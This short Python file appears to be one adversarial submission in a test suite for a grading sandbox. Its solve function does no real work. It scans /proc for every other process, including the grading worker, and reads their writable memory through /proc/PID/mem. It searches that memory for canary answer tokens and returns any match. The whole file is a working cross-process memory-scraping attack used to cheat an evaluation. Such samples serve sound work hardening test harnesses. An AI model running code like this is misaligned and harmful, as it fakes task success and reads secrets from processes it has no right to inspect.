"""Opens /proc/PID/mem of every other process, the worker above all, and searches it for answers."""
# kind: call
# class: proc
# may: WRONG TIMEOUT
import os
import re
import time
from contextlib import suppress
from pathlib import Path

TOKEN = re.compile(rb"SPARRING_(?:TOKEN_|CANARY_FILE|CANARY_ENV=)[\w-]+")


def search(process, deadline):
    memory = os.open(process / "mem", os.O_RDONLY)
    for line in (process / "maps").read_text().splitlines():
        start, end = (int(side, 16) for side in line.split()[0].split("-"))
        while " rw" in line and start < end and time.perf_counter() < deadline:
            with suppress(OSError):
                yield from TOKEN.findall(os.pread(memory, min(1_000_000, end - start), start))
            start += 1_000_000


def solve(n):
    deadline = time.perf_counter() + 0.6
    with suppress(OSError):
        for process in Path("/proc").iterdir():
            if process.name.isdigit() and process.name != str(os.getpid()):
                with suppress(OSError, ValueError):
                    for found in search(process, deadline):
                        return found.decode()
    return 0
